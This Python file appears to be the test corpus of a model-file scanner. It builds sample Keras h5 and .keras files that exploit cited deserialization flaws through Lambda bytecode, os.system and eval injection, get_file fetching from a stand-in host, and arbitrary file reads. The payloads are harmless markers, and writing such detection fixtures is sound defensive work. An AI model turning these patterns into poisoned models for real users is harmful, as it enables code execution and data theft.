"""Keras files, old and new, that run, load or read something."""

from __future__ import annotations

import base64
import json

from corpus_models.hdf5 import hdf5
from corpus_models.keras_configs import archive, layer, sequential
from corpus_models.model import Want, add_format
from corpus_models.zips import Entry, zipped

_CODE = base64.b64encode(b"\xe3" + bytes(40)).decode()
_LAMBDA_2 = layer(
    "Lambda", {"name": "l", "function": [_CODE, None, None], "function_type": "lambda"}, module=None
)
_LAMBDA_3 = layer(
    "Lambda",
    {
        "name": "l",
        "function": {
            "class_name": "__lambda__",
            "config": {"code": _CODE, "defaults": None, "closure": None},
        },
    },
)
SAFE_OFF, KERAS = "keras.models.load_model(safe_mode=False)", "keras.models.load_model"


def _keras(
    id_: str,
    what: str,
    source: str,
    *layers: dict[str, object],
    want: Want = Want.DANGEROUS,
    loader: str = KERAS,
) -> None:
    add_format(id_, f".keras: {what}", archive(sequential(*layers)), source, "model.keras", loader, want)


def _h5(id_: str, what: str, source: str, *layers: dict[str, object], want: Want = Want.DANGEROUS) -> None:
    config = json.dumps(sequential(*layers))
    add_format(
        id_,
        f"h5: {what}",
        hdf5({"keras_version": "2.4.0", "backend": "tensorflow", "model_config": config}, ["model_weights"]),
        source,
        "model.h5",
        KERAS,
        want,
    )


_h5("h5-lambda", "Lambda layer", "CVE-2024-3660", _LAMBDA_2)
_h5("h5-lambda-3", "Lambda layer in the form of Keras 3; h5 ignores safe mode", "CVE-2025-9905", _LAMBDA_3)
_h5(
    "h5-nested-lambda",
    "Lambda within a model within a wrapper",
    "CVE-2024-3660",
    layer("TimeDistributed", {"layer": sequential(_LAMBDA_2)}),
)
_h5(
    "h5-injection",
    "a class by module and name",
    "CVE-2025-1550",
    layer("system", {"command": "echo tidegate-sample"}, module="os"),
)
_h5(
    "h5-custom",
    "a class of the maker's",
    "Keras documentation",
    layer("AcmeNet", {"name": "n"}, module="acme_nets", registered="acme>AcmeNet"),
    want=Want.ALARM,
)
_keras("keras-lambda", "Lambda layer", "CVE-2024-3660", _LAMBDA_3, loader=SAFE_OFF)
_keras(
    "keras-nested-lambda",
    "Lambda deep within",
    "modelscan #253",
    layer("Bidirectional", {"layer": layer("RNN", {"cell": sequential(_LAMBDA_3)})}),
    loader=SAFE_OFF,
)
_keras(
    "keras-injection",
    "any function by module and name",
    "CVE-2025-1550",
    layer("system", {"command": "echo tidegate-sample"}, module="os"),
)
_keras(
    "keras-injection-function",
    "a function as an activation",
    "CVE-2025-1550",
    layer(
        "Dense",
        {
            "units": 1,
            "activation": {
                "module": "builtins",
                "class_name": "function",
                "config": "eval",
                "registered_name": "function",
            },
        },
    ),
)
_keras(
    "keras-get-file",
    "get_file fetches and unpacks",
    "CVE-2025-8747",
    layer("get_file", {"fname": "x", "origin": "http://tidegate.invalid/x.tar"}, module="keras.utils"),
)
_keras(
    "keras-unsafe",
    "unsafe deserialization enabled from inside",
    "CVE-2025-9906",
    layer("enable_unsafe_deserialization", {}, module="keras.config"),
    _LAMBDA_3,
)
_keras(
    "keras-string-lookup",
    "StringLookup reads any file as its vocabulary",
    "CVE-2025-12058",
    layer("StringLookup", {"name": "s", "vocabulary": "/etc/hostname"}),
)
_keras(
    "keras-tfsm",
    "TFSMLayer loads a SavedModel from elsewhere",
    "CVE-2026-1462",
    layer("TFSMLayer", {"filepath": "/tmp/tidegate-sample", "call_endpoint": "serve"}),
)
_keras(
    "keras-custom",
    "a class of the maker's",
    "Keras documentation",
    layer("AcmeNet", {"name": "n"}, module="acme_nets", registered="acme>AcmeNet"),
    want=Want.ALARM,
)
add_format(
    "keras-upper",
    ".keras whose config.json is told twice, the last with a Lambda",
    zipped(
        [
            Entry(name="config.json", data=json.dumps(sequential()).encode()),
            Entry(name="metadata.json", data=b'{"keras_version": "3.0.0"}'),
            Entry(name="config.json", data=json.dumps(sequential(_LAMBDA_3)).encode()),
        ]
    ),
    "ours",
    "model.keras",
    SAFE_OFF,
)
add_format(
    "keras-weights-h5",
    ".keras whose weights are a Keras 2 file with a Lambda",
    zipped(
        [
            Entry(name="config.json", data=json.dumps(sequential()).encode()),
            Entry(name="metadata.json", data=b'{"keras_version": "3.0.0"}'),
            Entry(
                name="model.weights.h5",
                data=hdf5({"keras_version": "2.4.0", "model_config": json.dumps(sequential(_LAMBDA_2))}),
            ),
        ]
    ),
    "ours",
    "model.keras",
    KERAS,
)
add_format(
    "hdf5-broken",
    "h5 that ends within its root",
    hdf5({"model_config": json.dumps(sequential(_LAMBDA_2))})[:120],
    "ours",
    "model.h5",
    KERAS,
    Want.ALARM,
)
